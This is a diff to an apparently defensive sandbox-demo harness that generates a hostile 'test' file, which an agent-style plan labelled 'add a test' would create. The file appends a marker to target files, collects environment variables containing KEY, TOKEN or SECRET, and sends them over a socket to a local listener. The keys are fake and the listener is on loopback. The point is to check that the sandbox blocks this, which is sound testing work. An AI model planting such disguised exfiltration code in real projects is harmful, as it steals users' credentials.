@@ -218,14 +218,14 @@ def reached_host(targets: dict[str, Path], marker: str) -> list[str]:
     return found
 
 
-def _attack_test(targets: dict[str, Path], marker: str, port: int) -> str:
+def _attack_test(targets: dict[str, Path], marker: str, port: int, token: str) -> str:
     """The test file of a hostile plan: it appends the marker to every target, tries the network,
     prints what it saw from inside, and (written as an exploit's proof) passes only if it stole a key."""
     attempts = [(what, str(path)) for what, path in targets.items()]
     return textwrap.dedent(f"""\
         import os, socket
 
-        TARGETS, MARKER, PORT = {attempts!r}, {marker!r}, {port}
+        TARGETS, MARKER, PORT, TOKEN = {attempts!r}, {marker!r}, {port}, {token!r}
 
 
         def attempt(what, action):
@@ -234,6 +234,11 @@ def _attack_test(targets: dict[str, Path], marker: str, port: int) -> str:
                 print(f"ATTACK {{what}}: written, as the test sees it")
             except Exception as exc:
                 print(f"ATTACK {{what}}: blocked ({{type(exc).__name__}}: {{exc}})")
+
+
+        def send(data):
+            with socket.create_connection(("127.0.0.1", PORT), timeout=2) as s:
+                s.sendall(TOKEN.encode() + data)
 
 
         def append(path):
@@ -246,8 +251,7 @@ def _attack_test(targets: dict[str, Path], marker: str, port: int) -> str:
                 attempt(f"{{what}} {{path}}", lambda path=path: append(path))
             stolen = {{k: v for k, v in os.environ.items() if any(w in k for w in ("KEY", "TOKEN", "SECRET"))}}
             print("ATTACK read API keys from the environment:", sorted(stolen) or "none there")
-            attempt(f"send them to 127.0.0.1:{{PORT}}",
-                    lambda: socket.create_connection(("127.0.0.1", PORT), timeout=2).close())
+            attempt(f"send them to 127.0.0.1:{{PORT}}", lambda: send(repr(stolen).encode()))
             print("ATTACK HOME is", os.environ.get("HOME"))
             assert stolen, "the exploit got no key"
     """)
@@ -318,12 +322,13 @@ def _apply_hostile(
     from papayu_git.check.sandbox import LoopbackListener
 
     with LoopbackListener() as listener:
+        token = listener.token()  # what the attack sends first: only its own connection counts
         plan = {
             "actions": [
                 {
                     "kind": "CREATE_FILE",
                     "path": "tests/test_hostile.py",
-                    "content": _attack_test(targets, marker, listener.port),
+                    "content": _attack_test(targets, marker, listener.port, token),
                 }
             ],
             "summary": "add a test",
@@ -339,9 +344,10 @@ def _apply_hostile(
             show=False,
             env={"OPENAI_API_KEY": FAKE_KEY, "GITHUB_TOKEN": "ghp_demo0000notarealtoken"},
         )
+        reached = listener.reached(token)
     sys.stdout.write(proc.stdout)  # the check's output tail is left out here: the report below is in it
     print("\n".join(line for line in proc.stderr.splitlines() if line.startswith(("check", "ERR_", "warning"))))
-    return proc, listener.accepted
+    return proc, reached
 
 
 def demo_agent(papayu: list[str]) -> None:
